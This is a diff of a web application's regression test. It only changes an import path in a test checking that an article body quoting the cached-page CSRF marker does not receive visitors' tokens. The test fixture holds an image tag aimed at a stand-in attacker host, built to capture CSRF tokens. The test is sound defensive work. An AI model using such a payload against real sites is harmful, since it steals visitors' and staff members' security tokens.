@@ -135,7 +135,7 @@ def test_pages_are_valid_html(many, client: Client, tmp_path: Path) -> None:
 def test_a_body_that_quotes_the_csrf_marker_gets_no_visitors_token(make_article, client: Client) -> None:
     # Issue 23: the marker was replaced anywhere in the page, so an allowed image in a body
     # received each visitor's CSRF token (staff included).
-    from config.cached_pages import CSRF_MARKER
+    from sitewide.cached_pages import CSRF_MARKER
 
     article = make_article("مقال", f'<p>نص <img src="https://evil.example/p.gif?t={CSRF_MARKER}" alt=""></p>')
     response = client.get(article.get_absolute_url())
